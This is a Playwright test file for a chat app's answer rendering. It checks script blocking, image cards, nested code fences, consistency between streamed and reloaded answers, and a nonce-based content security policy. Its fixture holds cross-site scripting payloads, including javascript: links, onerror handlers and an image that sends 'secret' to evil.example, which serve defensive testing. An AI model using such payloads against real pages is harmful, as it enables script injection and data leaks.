import type { Page } from '@playwright/test'
import { expect, test } from '../support/chat-test.ts'

const NASTY = `
<script>window.hacked = 'script'</script>
<img src="x" onerror="window.hacked = 'onerror'">
<iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(https://evil.example/style) }</style>

[a script](javascript:window.hacked='link') and [a page](data:text/html,<script>1</script>)
and [another](  JaVaScRiPt:alert(1)) and <javascript:alert(2)>

![a pixel](https://evil.example/pixel.png?said=secret)
![drawn](data:image/svg+xml;base64,PHN2Zy8+)

[a good link](https://example.org/page)
`

/** Hosts other than the page's own that the browser asked for anything. */
function foreignRequests(page: Page, own: string): string[] {
  const foreign: string[] = []
  page.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(own) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url)
  })
  return foreign
}

test('nothing that an answer says is run or fetched', async ({ app, chat, page, upstream }) => {
  const foreign = foreignRequests(page, app.url)
  upstream.script({ text: NASTY })
  await chat.open()
  await chat.say('be nasty')
  const hacked = () => page.evaluate(() => (window as { hacked?: string }).hacked)
  for (const name of ['a script', 'a page', 'another'])
    await expect(chat.answers.getByRole('link', { name, exact: true })).toHaveCount(0)
  await chat.answers.getByText('a script').click()
  await expect(chat.answers).toContainText('<iframe src="https://evil.example/frame">')
  await expect(chat.answers.locator('img, iframe, script, style, object, embed')).toHaveCount(0)
  await expect(chat.answers.getByRole('link', { name: 'a good link' })).toHaveAttribute('rel', /noopener/)

  await page.reload()
  await expect(chat.answers.getByRole('link', { name: 'a good link' })).toBeVisible()
  await expect(chat.answers.locator('img, iframe, script, style, object, embed')).toHaveCount(0)
  expect(await hacked()).toBeUndefined()
  expect(foreign).toEqual([])
})

test('an image stands as a card that says where it comes from, and opens in a new tab when pressed', async ({
  chat,
  context,
  page,
  upstream,
}) => {
  await context.route('https://pictures.example/**', (route) =>
    route.fulfill({ contentType: 'text/plain', body: 'a picture' }),
  )
  upstream.script({ text: '![A lighthouse](https://pictures.example/lighthouse.png)' })
  await chat.open()
  await chat.say('show me')
  const card = chat.answers.getByRole('link', { name: /A lighthouse/ })
  await expect(card).toContainText('from pictures.example, not loaded')
  const opening = context.waitForEvent('page')
  await card.click()
  const tab = await opening
  await tab.waitForLoadState()
  expect(tab.url()).toBe('https://pictures.example/lighthouse.png')
  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
  await expect(page).toHaveURL(/\/c\//)
})

test('a fence within a fence holds while it grows; what follows is read as text again', async ({
  chat,
  upstream,
}) => {
  const inner = '```js\nconst a = 1\n```\n# not a heading'
  const text = `Look:\n\n\`\`\`\`md\n${inner}\nstill code\n\`\`\`\`\n\n# A heading`
  upstream.script({ text, holdAfter: text.slice(0, text.indexOf('still')).trim().split(/\s+/).length })
  await chat.open()
  await chat.send('show me a fence')
  await expect(chat.answers.locator('pre')).toContainText('not a heading')
  await expect(chat.answers.getByRole('heading')).toHaveCount(0)
  await expect(chat.answers.locator('pre')).toHaveCount(1)
  upstream.release()
  await expect(chat.answers.getByRole('heading')).toHaveText(['A heading'])
  await expect(chat.answers.locator('pre')).toHaveText([`${inner}\nstill code\n`])
})

test('an answer looks the same streamed as it does when it is opened later', async ({
  chat,
  page,
  upstream,
}) => {
  const text = [
    '# Title\n\nA paragraph with **bold**, `code` and [a link][1].',
    '- one\n- two\n\n  with a second paragraph\n\n  ```sh\n  ls -l\n  ```\n- three',
    '1. first\n2. second\n\n10. tenth',
    '| a | b |\n|---|--:|\n| 1 | 2 |',
    '> quoted\n> twice\n\n---\n\n- [x] done\n- [ ] not',
    'مرحبا\n\n```py\nprint("x")\n```',
    '[1]: https://example.org/one',
  ].join('\n\n')
  upstream.script({ text, holdAfter: 30 })
  await chat.open()
  await chat.send('everything')
  await expect(chat.answers).toContainText('one')
  upstream.release()
  await expect(chat.stop).toBeHidden()
  const shape = () =>
    chat.answers.locator('.prose').evaluate((prose) => ({
      text: prose.textContent,
      elements: [...prose.querySelectorAll('*')].map(({ tagName }) => tagName),
    }))
  await expect(chat.answers.getByRole('link', { name: 'a link' })).toBeVisible()
  const streamed = await shape()
  await page.reload()
  await expect(chat.answers.getByRole('table')).toBeVisible()
  expect(await shape()).toEqual(streamed)
})

test('the policy is on every page, with a nonce of its own, and nothing breaks it in a whole conversation', async ({
  chat,
  page,
}) => {
  const complaints: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text())
  })
  page.on('pageerror', (error) => complaints.push(String(error)))

  const first = await page.goto('/')
  const nonceIn = (policy = '') => /script-src [^;]*'nonce-([^']+)'/.exec(policy)?.[1]
  const nonce = nonceIn(first?.headers()['content-security-policy'])
  expect(nonce).toBeTruthy()
  const html = (await first?.text()) ?? ''
  const scripts = html.match(/<script\b[^>]*>/g) ?? []
  expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([])

  await chat.say('# Hi\n\n```js\n1\n```')
  await chat.line.first().click()
  await page.getByRole('button', { name: 'More', exact: true }).click()
  await chat.menuItem('Instructions…').click()
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
  await page.getByRole('button', { name: 'Switch to dark' }).click()
  await page.getByRole('link', { name: 'Settings' }).click()
  await expect(page.getByRole('heading', { name: 'Settings', level: 1 })).toBeVisible()
  const again = await page.reload()
  const nextNonce = nonceIn(again?.headers()['content-security-policy'])
  expect(nextNonce).toBeTruthy()
  expect(nextNonce).not.toBe(nonce)
  expect(complaints).toEqual([])

  // The policy does hold: what is written into the page without the nonce is not run.
  await page.evaluate(() => {
    const injected = document.createElement('div')
    injected.innerHTML = '<button onclick="window.ran = true">'
    document.body.append(injected)
    injected.querySelector('button')?.click()
  })
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
})
